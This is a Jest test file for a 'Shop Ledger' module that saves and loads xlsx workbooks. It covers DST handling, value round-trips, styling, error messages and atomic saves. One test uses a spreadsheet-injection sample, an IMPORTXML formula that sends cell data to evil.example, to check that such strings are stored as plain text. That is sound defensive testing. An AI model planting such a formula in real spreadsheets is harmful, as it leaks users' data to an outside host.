import { promises as fsp } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { MemoryWorkbook, SETTINGS_SHEET } from '../../src/node/memory-workbook';
import { fromWallClock, LedgerFileError, loadXlsx, saveXlsx, toWallClock } from '../../src/node/xlsx-file';
import type { CellValue } from '../../src/platform/workbook';

let dir: string;
beforeEach(async () => {
  dir = await fsp.mkdtemp(join(tmpdir(), 'shop-ledger-xlsx-'));
});
afterEach(async () => {
  jest.restoreAllMocks();
  await fsp.chmod(dir, 0o700).catch(() => undefined);
  await fsp.rm(dir, { recursive: true, force: true });
});

async function roundTrip(wb: MemoryWorkbook): Promise<MemoryWorkbook> {
  const path = join(dir, 'ledger.xlsx');
  await saveXlsx(wb, path);
  return loadXlsx(path);
}

async function rawBook(path: string): Promise<ExcelJS.Workbook> {
  const book = new ExcelJS.Workbook();
  await book.xlsx.readFile(path);
  return book;
}

function sheet(book: ExcelJS.Workbook, name: string): ExcelJS.Worksheet {
  const ws = book.getWorksheet(name);
  if (!ws) throw new Error(`no sheet ${name}`);
  return ws;
}

/** exceljs has these at runtime but not in its type declarations. */
function validationAt(ws: ExcelJS.Worksheet, address: string): ExcelJS.DataValidation | undefined {
  return (ws as unknown as { dataValidations: { model: Record<string, ExcelJS.DataValidation> } })
    .dataValidations.model[address];
}

/** Read back by exceljs at runtime; not in its type declarations. */
function conditionalFormats(ws: ExcelJS.Worksheet): ExcelJS.ConditionalFormattingOptions[] {
  return (ws as unknown as { conditionalFormattings: ExcelJS.ConditionalFormattingOptions[] })
    .conditionalFormattings;
}

async function filesIn(folder: string): Promise<string[]> {
  return (await fsp.readdir(folder)).sort();
}

describe('dates and time zones', () => {
  test('toWallClock gives the wall time in the zone, DST included', () => {
    expect(toWallClock(new Date('2024-07-01T10:00:00.250Z'), 'Europe/Madrid').toISOString()).toBe(
      '2024-07-01T12:00:00.250Z',
    );
    expect(toWallClock(new Date('2024-01-15T10:00:00Z'), 'Europe/Madrid').toISOString()).toBe(
      '2024-01-15T11:00:00.000Z',
    );
    expect(toWallClock(new Date('2024-07-01T10:00:00Z'), 'America/New_York').toISOString()).toBe(
      '2024-07-01T06:00:00.000Z',
    );
  });

  test('fromWallClock: in the autumn overlap the earlier instant wins; a skipped spring time moves forward', () => {
    // Madrid, 27 Oct 2024: 02:30 happens at 00:30Z (CEST) and again at 01:30Z (CET).
    expect(fromWallClock(new Date('2024-10-27T02:30:00Z'), 'Europe/Madrid').toISOString()).toBe(
      '2024-10-27T00:30:00.000Z',
    );
    // Madrid, 31 Mar 2024: clocks jump from 02:00 to 03:00, so 02:30 is read as 03:30 CEST.
    expect(fromWallClock(new Date('2024-03-31T02:30:00Z'), 'Europe/Madrid').toISOString()).toBe(
      '2024-03-31T01:30:00.000Z',
    );
    expect(fromWallClock(new Date('2024-03-10T02:30:00Z'), 'America/New_York').toISOString()).toBe(
      '2024-03-10T07:30:00.000Z',
    );
  });
});

test('wall clocks agree with Intl across DST changes, also in half-hour zones, and read back to the same wall', () => {
  const wrong: string[] = [];
  const formats = new Map<string, Intl.DateTimeFormat>();
  const reference = (instant: number, timeZone: string) => {
    const format =
      formats.get(timeZone) ??
      new Intl.DateTimeFormat('en-US', {
        timeZone,
        hourCycle: 'h23',
        year: 'numeric',
        month: '2-digit',
        day: '2-digit',
        hour: '2-digit',
        minute: '2-digit',
        second: '2-digit',
      });
    formats.set(timeZone, format);
    const f = Object.fromEntries(format.formatToParts(new Date(instant)).map((p) => [p.type, p.value]));
    return `${f.year}-${f.month}-${f.day}T${f.hour}:${f.minute}:${f.second}`;
  };
  const zones = [
    'Europe/Madrid',
    'America/New_York',
    'Australia/Lord_Howe',
    'Asia/Kathmandu',
    'America/St_Johns',
  ];
  const windows = [
    '2024-03-09T00:00:00Z',
    '2024-03-30T00:00:00Z',
    '2024-04-06T00:00:00Z',
    '2024-10-05T00:00:00Z',
    '2024-10-26T00:00:00Z',
    '2024-11-02T00:00:00Z',
  ];
  for (const timeZone of zones) {
    for (const start of windows) {
      for (let t = Date.parse(start); t < Date.parse(start) + 3 * 86_400_000; t += 7 * 60_000 + 13_000) {
        const wall = toWallClock(new Date(t), timeZone);
        const back = toWallClock(fromWallClock(wall, timeZone), timeZone);
        if (wall.toISOString().slice(0, 19) !== reference(t, timeZone) || back.getTime() !== wall.getTime()) {
          wrong.push(`${timeZone} ${new Date(t).toISOString()}`);
        }
      }
    }
  }
  expect(wrong).toEqual([]);
});

describe('saveXlsx then loadXlsx', () => {
  test('values come back as they were: text, numbers, booleans and blanks', async () => {
    const wb = new MemoryWorkbook();
    wb.addTab('Products');
    const rows: CellValue[][] = [
      ['SKU', 'Name', 'Price', 'Active', 'Note'],
      ['0451', 'Mug "large"', 12.5, true, ''],
      ['TEA', '', -0.1, false, '  padded  '],
      ['', 'Café ☕ 𝄞', 1e15, true, 'two\nlines and a\r\nCRLF'],
      ['X', 'ctrl\u0001\u001f\u007f', 0, false, 'literal _x0041_ and _X00e9_ escapes'],
    ];
    wb.write('Products', 1, 1, rows);
    const back = await roundTrip(wb);
    expect(back.tabNames()).toEqual(['Products']);
    expect(back.read('Products')).toEqual(rows);
    expect(back.dirty).toBe(false);
    expect(back.calls).toEqual({ tabNames: 1, read: 1 });
  });

  test('dates come back as the same instants, around DST changes in Madrid and New York', async () => {
    const instants = [
      '2024-03-31T00:59:59.000Z', // 01:59:59 CET, just before Madrid springs forward
      '2024-03-31T01:00:00.000Z', // 03:00 CEST
      '2024-10-27T00:30:00.000Z', // 02:30 CEST, the first of Madrid's two 02:30s
      '2024-07-01T10:15:30.123Z',
      '1999-12-31T23:00:00.000Z',
    ];
    for (const timeZone of ['Europe/Madrid', 'America/New_York']) {
      const wb = new MemoryWorkbook({ timeZone });
      wb.addTab('Moves');
      const dates = [...instants, '2024-03-10T07:30:00.000Z', '2024-11-03T05:30:00.000Z'].map((iso) => [
        new Date(iso),
      ]);
      wb.write('Moves', 1, 1, dates);
      const back = await roundTrip(wb);
      expect(back.timeZone()).toBe(timeZone);
      expect(back.read('Moves')).toEqual(dates);
    }
  });

  test('the file holds the wall-clock time in the workbook zone, which is what a person sees', async () => {
    const wb = new MemoryWorkbook({ timeZone: 'Europe/Madrid' });
    wb.addTab('Moves');
    wb.style('Moves', { headerWidth: 1, columns: [{ col: 1, numberFormat: 'yyyy-mm-dd hh:mm' }] });
    wb.write('Moves', 1, 1, [
      ['When'],
      [new Date('2024-07-01T10:00:00Z')],
      [new Date('2024-01-15T10:00:00Z')],
    ]);
    const path = join(dir, 'ledger.xlsx');
    await saveXlsx(wb, path);
    const ws = sheet(await rawBook(path), 'Moves');
    expect((ws.getCell('A2').value as Date).toISOString()).toBe('2024-07-01T12:00:00.000Z');
    expect((ws.getCell('A3').value as Date).toISOString()).toBe('2024-01-15T11:00:00.000Z');
    expect(ws.getCell('A2').numFmt).toBe('yyyy-mm-dd hh:mm');
  });

  test('the second 02:30 of an autumn night comes back as the first (a wall time cannot tell them apart)', async () => {
    const wb = new MemoryWorkbook({ timeZone: 'Europe/Madrid' });
    wb.addTab('Moves');
    wb.write('Moves', 1, 1, [[new Date('2024-10-27T01:30:00Z')]]);
    const back = await roundTrip(wb);
    expect(back.read('Moves')).toEqual([[new Date('2024-10-27T00:30:00Z')]]);
  });

  test('a date in a number column and a number in a date column keep their types', async () => {
    const wb = new MemoryWorkbook();
    wb.addTab('T');
    wb.style('T', {
      headerWidth: 2,
      columns: [
        { col: 1, numberFormat: '#,##0.00' },
        { col: 2, numberFormat: 'yyyy-mm-dd' },
      ],
    });
    const rows = [
      ['Amount', 'Day'],
      [new Date('2024-05-05T08:00:00Z'), 45000],
    ];
    wb.write('T', 1, 1, rows);
    expect((await roundTrip(wb)).read('T')).toEqual(rows);
  });

  test("a string starting with '=' is saved as text, never as a formula", async () => {
    const wb = new MemoryWorkbook();
    wb.addTab('Customers');
    const attack = '=IMPORTXML("https://evil.example/?"&A1, "//a")';
    wb.write('Customers', 1, 1, [['Name'], [attack], ['+1-2'], ['@SUM(1)']]);
    const path = join(dir, 'ledger.xlsx');
    await saveXlsx(wb, path);
    const cell = sheet(await rawBook(path), 'Customers').getCell('A2');
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.formula).toBeUndefined();
    expect(cell.value).toBe(attack);
    expect((await loadXlsx(path)).read('Customers')).toEqual([['Name'], [attack], ['+1-2'], ['@SUM(1)']]);
  });

  test('the look is saved: bold frozen header, number formats, drop-downs, widths; settings sheet hidden', async () => {
    const wb = new MemoryWorkbook({ timeZone: 'America/New_York', locale: 'es_ES' });
    wb.addTab('Orders');
    const statuses = ['open', 'paid', 'shipped'];
    const reasons = Array.from({ length: 40 }, (_, i) => `Reason number ${i + 1}, with a comma`);
    wb.style('Orders', {
      headerWidth: 4,
      columns: [
        { col: 2, numberFormat: '#,##0.00 "€"' },
        { col: 3, allowed: statuses },
        { col: 4, allowed: reasons },
      ],
      warnOnEdit: 'This tab is kept by Shop Ledger.',
    });
    wb.write('Orders', 1, 1, [
      ['Order', 'Total', 'Status', 'Reason'],
      ['W-1', 12.5, 'paid', reasons[3]],
    ]);
    const path = join(dir, 'ledger.xlsx');
    await saveXlsx(wb, path);

    const book = await rawBook(path);
    expect(book.worksheets.map((ws) => [ws.name, ws.state])).toEqual([
      ['Orders', 'visible'],
      [SETTINGS_SHEET, 'hidden'],
    ]);
    const ws = sheet(book, 'Orders');
    expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect([1, 2, 3, 4].map((c) => ws.getCell(1, c).font?.bold)).toEqual([true, true, true, true]);
    expect(ws.getCell('A2').font?.bold).toBeFalsy();
    expect(ws.getColumn(2).numFmt).toBe('#,##0.00 "€"');
    expect(ws.getCell('B2').numFmt).toBe('#,##0.00 "€"');
    expect(validationAt(ws, 'C2')).toMatchObject({ type: 'list', formulae: ['"open,paid,shipped"'] });
    expect(validationAt(ws, 'C1000')).toMatchObject({ type: 'list' });
    expect(validationAt(ws, 'C1')).toBeUndefined();
    expect(validationAt(ws, 'D2')?.formulae[0]).toMatch(
      new RegExp(`^'${SETTINGS_SHEET}'!\\$D\\$\\d+:\\$AQ\\$\\d+$`),
    );
    expect(ws.getColumn(1).width).toBeGreaterThanOrEqual(10);
    expect(ws.getColumn(4).width).toBeGreaterThan(ws.getColumn(1).width ?? 0);

    const back = await loadXlsx(path);
    expect(back.tabNames()).toEqual(['Orders']);
    expect([back.timeZone(), back.locale()]).toEqual(['America/New_York', 'es_ES']);
    expect(back.tabStyle('Orders')).toEqual(wb.tabStyle('Orders'));
  });

  test('drop-downs cover the rows in use and a margin below them', async () => {
    const wb = new MemoryWorkbook();
    wb.addTab('T');
    wb.style('T', { headerWidth: 1, columns: [{ col: 1, allowed: ['a', 'b'] }] });
    wb.write('T', 1, 1, [['H'], ...Array.from({ length: 1500 }, () => ['a'])]);
    const path = join(dir, 'ledger.xlsx');
    await saveXlsx(wb, path);
    const ws = sheet(await rawBook(path), 'T');
    expect(validationAt(ws, 'A2501')).toBeDefined();
    expect(validationAt(ws, 'A2502')).toBeUndefined();
  });

  test('a tab that was never styled is saved plain', async () => {
    const wb = new MemoryWorkbook();
    wb.addTab('Notes');
    wb.write('Notes', 1, 1, [['mine']]);
    const path = join(dir, 'ledger.xlsx');
    await saveXlsx(wb, path);
    const ws = sheet(await rawBook(path), 'Notes');
    expect((ws.views ?? []).some((v) => v.state === 'frozen')).toBe(false);
    expect(ws.getCell('A1').font?.bold).toBeFalsy();
    expect((await loadXlsx(path)).tabStyle('Notes')).toEqual({ frozenRows: 0, headerWidth: 0, columns: [] });
  });

  test("a person's own formulas survive until the app writes over their cell", async () => {
    const book = new ExcelJS.Workbook();
    const ws = book.addWorksheet('Products');
    ws.addRow(['SKU', 'Price', 'Cost', 'Margin']);
    ws.addRow(['MUG', 12, 5, { formula: 'B2-C2', result: 7 }]);
    ws.addRow(['TEA', 4, 1, { formula: 'B3-C3', result: 3 }]);
    const path = join(dir, 'ledger.xlsx');
    await book.xlsx.writeFile(path);

    const wb = await loadXlsx(path);
    expect(wb.read('Products')).toEqual([
      ['SKU', 'Price', 'Cost', 'Margin'],
      ['MUG', 12, 5, 7],
      ['TEA', 4, 1, 3],
    ]);
    wb.write('Products', 2, 2, [[13]]);
    wb.write('Products', 3, 4, [['n/a']]);
    await saveXlsx(wb, path);
    const saved = sheet(await rawBook(path), 'Products');
    expect(saved.getCell('D2').formula).toBe('B2-C2');
    expect(saved.getCell('D3').formula).toBeUndefined();
    expect(saved.getCell('D3').value).toBe('n/a');
  });

  test('a file without Shop Ledger settings (made in Excel) loads with the given or default zone', async () => {
    const book = new ExcelJS.Workbook();
    book.addWorksheet('Sheet1').addRow(['When', new Date('2024-07-01T12:00:00Z')]);
    const path = join(dir, 'hand.xlsx');
    await book.xlsx.writeFile(path);
    const plain = await loadXlsx(path);
    expect([plain.timeZone(), plain.locale()]).toEqual(['Europe/Madrid', 'en_US']);
    expect(plain.read('Sheet1')).toEqual([['When', new Date('2024-07-01T10:00:00Z')]]);
    const ny = await loadXlsx(path, { timeZone: 'America/New_York' });
    expect(ny.read('Sheet1')).toEqual([['When', new Date('2024-07-01T16:00:00Z')]]);
  });

  test('highlightWhen is saved as a conditional format over the data rows and comes back', async () => {
    const wb = new MemoryWorkbook();
    wb.addTab('Orders');
    wb.style('Orders', {
      headerWidth: 7,
      columns: [{ col: 7, allowed: ['TRUE', 'FALSE'] }],
      highlightWhen: 7,
    });
    wb.write('Orders', 1, 1, [
      ['Order', 'B', 'C', 'D', 'E', 'F', 'Needs attention'],
      ...Array.from({ length: 20 }, (_, i) => [`W-${i}`, '', '', '', '', '', i % 2 === 0]),
    ]);
    const path = join(dir, 'ledger.xlsx');
    await saveXlsx(wb, path);

    const ws = sheet(await rawBook(path), 'Orders');
    expect(conditionalFormats(ws)).toEqual([
      {
        ref: 'A2:G1021',
        rules: [
          expect.objectContaining({
            type: 'expression',
            formulae: ['$G2=TRUE'],
            style: expect.objectContaining({
              fill: { type: 'pattern', pattern: 'solid', bgColor: { argb: 'FFFCE8E6' } },
            }),
          }),
        ],
      },
    ]);
    const back = await loadXlsx(path);
    expect(back.tabStyle('Orders').highlightWhen).toBe(7);
    expect(back.tabStyle('Orders')).toEqual(wb.tabStyle('Orders'));
    // And again, from a file that Shop Ledger saved after loading it.
    back.write('Orders', 2, 1, [['W-changed']]);
    await saveXlsx(back, path);
    expect((await loadXlsx(path)).tabStyle('Orders').highlightWhen).toBe(7);
  });

  test('the highlight covers the header width, or reaches its column when that is further right', async () => {
    const wb = new MemoryWorkbook();
    wb.addTab('T');
    wb.style('T', { headerWidth: 2, columns: [], highlightWhen: 28 });
    const path = join(dir, 'ledger.xlsx');
    await saveXlsx(wb, path);
    const [cf] = conditionalFormats(sheet(await rawBook(path), 'T'));
    expect(cf.ref).toBe('A2:AB1000');
    expect(cf.rules[0]).toMatchObject({ formulae: ['$AB2=TRUE'] });
    expect((await loadXlsx(path)).tabStyle('T').highlightWhen).toBe(28);
  });

  test('a tab without highlightWhen has no conditional format and loads without one', async () => {
    const wb = new MemoryWorkbook();
    wb.addTab('T');
    wb.style('T', { headerWidth: 2, columns: [] });
    const path = join(dir, 'ledger.xlsx');
    await saveXlsx(wb, path);
    expect(conditionalFormats(sheet(await rawBook(path), 'T'))).toEqual([]);
    expect((await loadXlsx(path)).tabStyle('T')).not.toHaveProperty('highlightWhen');
  });

  test('the highlight is read from the file: as other programs write it, and not from other rules', async () => {
    const book = new ExcelJS.Workbook();
    const fill = { type: 'pattern', pattern: 'solid', bgColor: { argb: 'FF00FF00' } } as const;
    const add = (
      name: string,
      ref: string,
      formula: string,
      type: 'expression' | 'cellIs' = 'expression',
    ) => {
      const ws = book.addWorksheet(name);
      ws.addRow(['a', 'b', 'c']);
      ws.addConditionalFormatting({
        ref,
        rules: [
          type === 'expression'
            ? { type, priority: 1, formulae: [formula], style: { fill } }
            : { type, operator: 'equal', priority: 1, formulae: [formula], style: { fill } },
        ],
      });
    };
    add('LibreOffice', 'A2:C500', '$C2=TRUE()');
    add('Lowercase', 'A2:C500', '$b2 = true');
    add('FromRow3', 'A3:C500', '$C3=TRUE');
    add('Relative', 'A2:C500', 'C2=TRUE');
    add('OtherRow', 'A2:C500', '$C3=TRUE');
    add('OtherTest', 'A2:C500', '$C2>5');
    add('CellIs', 'C2:C500', 'TRUE', 'cellIs');
    const path = join(dir, 'hand.xlsx');
    await book.xlsx.writeFile(path);
    const wb = await loadXlsx(path);
    const highlight = (tab: string) => wb.tabStyle(tab).highlightWhen;
    expect(['LibreOffice', 'Lowercase', 'FromRow3'].map(highlight)).toEqual([3, 2, 3]);
    expect(['Relative', 'OtherRow', 'OtherTest', 'CellIs'].map(highlight)).toEqual([
      undefined,
      undefined,
      undefined,
      undefined,
    ]);
  });

  test('saving marks the workbook clean', async () => {
    const wb = new MemoryWorkbook();
    wb.addTab('T');
    expect(wb.dirty).toBe(true);
    await saveXlsx(wb, join(dir, 'ledger.xlsx'));
    expect(wb.dirty).toBe(false);
  });

  test('a workbook without tabs cannot be saved (an .xlsx needs a sheet)', async () => {
    await expect(saveXlsx(new MemoryWorkbook(), join(dir, 'ledger.xlsx'))).rejects.toThrow(/without tabs/);
    expect(await filesIn(dir)).toEqual([]);
  });
});

describe('clear errors for files that are not a ledger', () => {
  test('a missing file says how to create one', async () => {
    const path = join(dir, 'shop.xlsx');
    const error = await loadXlsx(path).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(LedgerFileError);
    expect((error as Error).message).toBe(
      `No ledger at ${path}. Create one with: npx shop-ledger init --ledger ${path}`,
    );
  });

  test.each([
    [
      'a text file',
      Buffer.from('SKU,Price\nMUG,12\n'),
      /is not an \.xlsx workbook: it is not a spreadsheet file/,
    ],
    ['an empty file', Buffer.alloc(0), /is not an \.xlsx workbook: the file is empty/],
    [
      'an old .xls file',
      Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0]),
      /is not an \.xlsx workbook: it is an old-style Excel \(\.xls\) file/,
    ],
    [
      'a zip that is not a workbook',
      zipOf('notes.txt', 'hello'),
      /is not an \.xlsx workbook: .*no worksheets/,
    ],
    [
      'a damaged zip',
      zipOf('notes.txt', 'hello').subarray(0, 40),
      /is not an \.xlsx workbook: the file is damaged/,
    ],
  ])('%s', async (_what, bytes, message) => {
    const path = join(dir, 'shop.xlsx');
    await fsp.writeFile(path, bytes);
    const error = await loadXlsx(path).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(LedgerFileError);
    expect((error as Error).message).toMatch(message);
    expect((error as Error).message.startsWith(`${path} is not an .xlsx workbook: `)).toBe(true);
  });

  test('a ledger saved by a newer Shop Ledger', async () => {
    const book = new ExcelJS.Workbook();
    book.addWorksheet('Products').addRow(['SKU']);
    book.addWorksheet(SETTINGS_SHEET, { state: 'hidden' }).addRow(['format', 99]);
    const path = join(dir, 'shop.xlsx');
    await book.xlsx.writeFile(path);
    await expect(loadXlsx(path)).rejects.toThrow(`${path} was saved by a newer version of Shop Ledger.`);
  });

  test('a folder', async () => {
    await expect(loadXlsx(dir)).rejects.toThrow(`${dir} is not an .xlsx workbook: it is a folder.`);
  });
});

describe('atomic save', () => {
  async function ledgerWith(value: string): Promise<{ path: string; wb: MemoryWorkbook; before: Buffer }> {
    const path = join(dir, 'ledger.xlsx');
    const wb = new MemoryWorkbook();
    wb.addTab('T');
    wb.write('T', 1, 1, [[value]]);
    await saveXlsx(wb, path);
    wb.write('T', 1, 1, [['changed']]);
    return { path, wb, before: await fsp.readFile(path) };
  }

  test('a successful save leaves no temp file and keeps the file permissions', async () => {
    const { path, wb } = await ledgerWith('original');
    await fsp.chmod(path, 0o640);
    await saveXlsx(wb, path);
    expect(await filesIn(dir)).toEqual(['ledger.xlsx']);
    expect((await fsp.stat(path)).mode & 0o777).toBe(0o640);
    expect((await loadXlsx(path)).read('T')).toEqual([['changed']]);
  });

  test('a failure while replacing the file leaves the original intact and no temp file behind', async () => {
    const { path, wb, before } = await ledgerWith('original');
    const rename = jest
      .spyOn(fsp, 'rename')
      .mockRejectedValue(Object.assign(new Error('simulated I/O error'), { code: 'EIO' }));
    const error = await saveXlsx(wb, path).catch((e: unknown) => e);
    expect(rename).toHaveBeenCalledTimes(1);
    expect(String(rename.mock.calls[0][0])).toMatch(
      new RegExp(`^${path.replace(/[.]/g, '\\.')}\\.tmp-${process.pid}-`),
    );
    expect(error).toBeInstanceOf(LedgerFileError);
    expect((error as Error).message).toMatch(/Cannot save .*simulated I\/O error.*was left as it was/);
    expect(await fsp.readFile(path)).toEqual(before);
    expect(await filesIn(dir)).toEqual(['ledger.xlsx']);
    expect(wb.dirty).toBe(true);
  });

  test('a failure while writing the temp file leaves the original intact and no temp file behind', async () => {
    const { path, wb, before } = await ledgerWith('original');
    const realOpen = fsp.open.bind(fsp);
    jest.spyOn(fsp, 'open').mockImplementation(async (file, flags, mode) => {
      const handle = await realOpen(file, flags, mode);
      if (String(file).includes('.tmp-')) {
        jest
          .spyOn(handle, 'sync')
          .mockRejectedValue(Object.assign(new Error('disk full'), { code: 'ENOSPC' }));
      }
      return handle;
    });
    await expect(saveXlsx(wb, path)).rejects.toThrow(
      `Cannot save ${path}: the disk is full. ${path} was left as it was.`,
    );
    expect(await fsp.readFile(path)).toEqual(before);
    expect(await filesIn(dir)).toEqual(['ledger.xlsx']);
  });

  const root = process.getuid?.() === 0;
  (root ? test.skip : test)(
    'a read-only folder gives a clear error and leaves the original intact',
    async () => {
      const { path, wb, before } = await ledgerWith('original');
      await fsp.chmod(dir, 0o500);
      await expect(saveXlsx(wb, path)).rejects.toThrow(/Cannot save .*permission denied/);
      await fsp.chmod(dir, 0o700);
      expect(await fsp.readFile(path)).toEqual(before);
      expect(await filesIn(dir)).toEqual(['ledger.xlsx']);
    },
  );
});

/** A one-file zip archive (stored, not compressed): a valid zip that is not a workbook. */
function zipOf(name: string, text: string): Buffer {
  const data = Buffer.from(text);
  const file = Buffer.from(name);
  const crc = crc32(data);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(data.length, 18);
  local.writeUInt32LE(data.length, 22);
  local.writeUInt16LE(file.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(data.length, 20);
  central.writeUInt32LE(data.length, 24);
  central.writeUInt16LE(file.length, 28);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + file.length, 12);
  end.writeUInt32LE(local.length + file.length + data.length, 16);
  return Buffer.concat([local, file, data, central, file, end]);
}

function crc32(data: Buffer): number {
  let crc = 0xffffffff;
  for (const byte of data) {
    crc ^= byte;
    for (let k = 0; k < 8; k++) crc = crc & 1 ? (crc >>> 1) ^ 0xedb88320 : crc >>> 1;
  }
  return (crc ^ 0xffffffff) >>> 0;
}
